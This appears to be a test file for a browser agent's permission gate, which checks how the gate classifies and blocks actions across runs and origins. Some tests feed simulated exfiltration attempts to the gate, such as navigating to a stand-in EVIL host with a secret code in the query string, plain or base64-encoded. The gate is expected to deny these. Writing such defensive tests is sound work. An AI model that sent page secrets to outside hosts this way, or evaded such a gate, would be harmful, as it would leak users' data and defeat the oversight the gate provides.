/** What the gate has seen in this run and in earlier ones counts for the next action. */
import { describe, expect, it } from 'vitest';
import { type Approvals, createApprovals } from '../../agent-core/policy/approvals.ts';
import type { createGate } from '../../agent-core/policy/gate.ts';
import { createLearned } from '../../agent-core/policy/learned.ts';
import type { Environment } from '../../agent-core/ports.ts';
import type { Action, Effect } from '../../agent-core/trajectory.ts';
import { at, guard, outcome, person, post, QUIET, world } from './guard.ts';
import { button, EVIL, field, link, SHOP, shop, type } from './make.ts';

describe('what was seen before', () => {
  const act = async (gate: ReturnType<typeof createGate>, action: Action) => {
    const answer = await gate.permit(action);
    if ('permitted' in answer) await gate.environment.perform(answer.permitted);
    return outcome(answer);
  };
  const effect = (requests: Effect['requests']): Effect => ({ ...QUIET, requests });
  it('a control that wrote is a write from then on, and its number does not matter', async () => {
    const w = world({ e1: button('Show 7'), e2: button('Show 8') }, { effects: [effect([post])] });
    const { gate } = guard(w, { mode: 'read' });
    expect([await act(gate, at('e1')), await act(gate, at('e2'))]).toEqual(['allow U', 'allow W']);
  });
  it('typing in a field that saved by itself is a write from then on', async () => {
    const w = world({ e1: field('Title') }, { effects: [effect([post])] });
    const { gate } = guard(w, { mode: 'read' });
    expect([await act(gate, type('a')), await act(gate, type('b'))]).toEqual(['allow U', 'allow W']);
  });
  it('three reads in sandbox lower what was only unknown, in later runs too; imported knowledge never lowers', async () => {
    const get = { ...post, method: 'GET', blocked: false };
    const learned = createLearned();
    const effects = [1, 2, 3].map(() => effect([get]));
    const w = world({ e1: button('Frobnicate') }, { effects });
    const { gate } = guard(w, { mode: 'sandbox', learned });
    for (let i = 0; i < 3; i += 1) expect(await act(gate, at('e1'))).toBe('allow W');
    expect(await act(gate, at('e1'))).toBe('allow U');
    const own = createLearned(learned.rows());
    const next = guard(w, { mode: 'assist', barrier: () => 'absent', learned: own });
    expect(outcome(await next.gate.permit(at('e1')))).toBe('allow U');
    const foreign = createLearned(learned.rows().map((row) => ({ ...row, from: 'imported' })));
    expect(outcome(await guard(w, { mode: 'assist', barrier: () => 'absent', learned: foreign }).gate.permit(at('e1')))).toBe(
      'ask write',
    );
  });
  it('reads in read mode teach nothing: there a write may have been stopped elsewhere', async () => {
    const learned = createLearned();
    const effects = [1, 2, 3, 4].map(() => effect([{ ...post, method: 'GET', blocked: false }]));
    const { gate } = guard(world({ e1: button('Frobnicate') }, { effects }), { mode: 'read', learned });
    for (let i = 0; i < 4; i += 1) expect(await act(gate, at('e1'))).toBe('allow W');
    expect(learned.rows()).toEqual([]);
  });
  it('a link to an address that was posted to is a write by GET, unless it is also a page', async () => {
    const effects = [
      effect([
        { ...post, path: '/turn' },
        { ...post, path: '/orders' },
      ]),
    ];
    const w = world({ e1: button('Show'), e2: link('/turn', 'Turn'), e3: link('/orders?x=1', 'Orders') }, { effects });
    const { gate } = guard(w, { mode: 'read' });
    expect(await act(gate, at('e2'))).toBe('allow N1');
    expect(await act(gate, at('e1'))).toBe('allow U');
    expect(await act(gate, at('e2'))).toBe('deny writes-by-get');
    expect(await act(gate, at('e3'))).toBe('allow N1');
  });
  it.each([
    ['document', false, 'allow N1'],
    ['main_frame', false, 'allow N1'],
    ['document', true, 'deny writes-by-get'],
    ['fetch', false, 'deny writes-by-get'],
  ])('such an address is a page once one came from it: a %s, stopped: %s', async (kind, blocked, wanted) => {
    const turn = { ...post, path: '/turn?x=1' };
    const effects = [effect([turn]), effect([{ ...turn, path: '/turn?x=2#top', method: 'GET', type: kind, blocked }])];
    const w = world({ e1: button('Show'), e2: link('/turn', 'Turn') }, { effects });
    const { gate } = guard(w, { mode: 'read' });
    await act(gate, at('e1'));
    expect(outcome(await gate.permit(at('e2')))).toBe('deny writes-by-get');
    await act(gate, at('e1'));
    expect(outcome(await gate.permit(at('e2')))).toBe(wanted);
  });
  it('a planned write may go where it was seen to go, in this run or an earlier one, and nowhere else', async () => {
    const planned = (): Approvals => {
      const approvals = createApprovals(() => 0);
      approvals.plan('archive', 9);
      return approvals;
    };
    const assist = { mode: 'assist', barrier: (): 'absent' => 'absent' } as const;
    const sent = (origin: string) => ({ ...post, origin, blocked: false });
    const archive = { e1: button('Archive') };
    for (const [origin, wanted] of [[SHOP, 'allow W'] as const, [EVIL, 'ask unknown-destination'] as const]) {
      const learned = createLearned();
      const { gate } = guard(world(archive, { effects: [effect([sent(origin)])] }), {
        ...{ ...assist, learned, approvals: planned(), approve: async () => true },
      });
      expect(await act(gate, at('e1'))).toBe('allow W');
      const later = guard(world(archive), { ...assist, learned, approvals: planned() });
      expect(outcome(await later.gate.permit(at('e1')))).toBe(wanted);
      const { gate: same } = guard(world(archive, { effects: [effect([sent(origin)])] }), {
        ...{ ...assist, approvals: planned(), approve: person([true, false]).approve },
      });
      expect([await act(same, at('e1')), outcome(await same.permit(at('e1')))]).toEqual(['allow W', wanted]);
    }
    expect(outcome(await guard(world(archive), { ...assist, approvals: planned() }).gate.permit(at('e1')))).toBe(
      'ask unknown-destination',
    );
  });
  it('what stands in a field of another origin does not travel either', async () => {
    const two = shop({ read: new Set([SHOP, EVIL]), write: new Set([SHOP]) });
    const w = world({});
    const filled: Environment = {
      ...w.environment,
      observe: async () => {
        const page = await w.environment.observe();
        const box = { ...page.tree, ref: 'f', role: 'textbox', name: 'Code', value: 'marmalade-8841-tangerine' };
        return { ...page, tree: { ...page.tree, children: [box] } };
      },
    };
    const { gate } = guard({ ...w, environment: filled }, { mode: 'sandbox', origins: two });
    await gate.environment.observe();
    expect(outcome(await gate.permit({ kind: 'goto', url: `${EVIL}/?d=marmalade8841tangerine` }))).toBe(
      'deny carries-text-of-another-origin',
    );
  });
  it('the way back stays known after steps that were seen, and before the first page', async () => {
    const w = world({ e1: link('/a', 'A') });
    const { gate } = guard(w, { mode: 'assist', barrier: () => 'absent' });
    w.show({ url: 'about:blank', text: '' });
    await gate.environment.observe();
    w.show({ url: `${SHOP}/orders`, text: '' });
    await gate.environment.observe();
    for (let n = 0; n < 2; n += 1) expect(await act(gate, at('e1'))).toBe('allow N1');
    expect(await act(gate, { kind: 'go_back' })).toBe('allow N1');
    expect(await gate.environment.inspect(at('e1'))).toEqual(w.elements.e1);
  });
  it('text of another origin does not travel', async () => {
    const two = shop({ read: new Set([SHOP, EVIL]), write: new Set([SHOP]) });
    const w = world(
      { e1: field('Comment', { origin: EVIL, pageUrl: `${EVIL}/` }) },
      { text: 'The vault code is marmalade-8841-tangerine' },
    );
    const { gate } = guard(w, { mode: 'sandbox', origins: two, task: '' });
    await gate.environment.observe();
    expect(outcome(await gate.permit(type('marmalade 8841 tangerine')))).toBe('deny carries-text-of-another-origin');
    expect(outcome(await gate.permit({ kind: 'goto', url: `${EVIL}/?d=${btoa('marmalade-8841-tangerine')}` }))).toBe(
      'deny carries-text-of-another-origin',
    );
    expect(outcome(await gate.permit({ kind: 'goto', url: `${SHOP}/?d=marmalade-8841-tangerine` }))).toBe('allow N1');
    expect(outcome(await gate.permit(type('thanks')))).toBe('allow U');
  });
  it('going back is known to stay where all pages were of one origin; a tab has its own', async () => {
    const w = world({ e1: link('/a', 'A') });
    const { gate } = guard(w, { mode: 'assist', barrier: () => 'absent' });
    await gate.environment.observe();
    expect(await act(gate, { kind: 'go_back' })).toBe('allow N1');
    expect(await act(gate, { kind: 'tab_focus', index: 0 })).toBe('allow N1');
    expect(await act(gate, { kind: 'tab_focus', index: 1 })).toBe('ask foreign-origin');
    w.show({ url: `${EVIL}/`, text: '' });
    await gate.environment.observe();
    expect(await act(gate, { kind: 'go_back' })).toBe('ask unknown-destination');
    expect(await act(gate, { kind: 'scroll', direction: 'down' })).toBe('deny foreign-frame');
  });
  it('an action past the witness is not trusted to have stayed', async () => {
    const w = world({ e1: link('/a', 'A') });
    const { gate } = guard(w, { mode: 'assist', barrier: () => 'absent' });
    await gate.environment.observe();
    const answer = await gate.permit(at('e1'));
    if ('permitted' in answer) await w.environment.perform(answer.permitted);
    w.show({ url: `${EVIL}/`, text: '' });
    expect(outcome(await gate.permit({ kind: 'scroll', direction: 'down' }))).toBe('deny foreign-frame');
  });
});
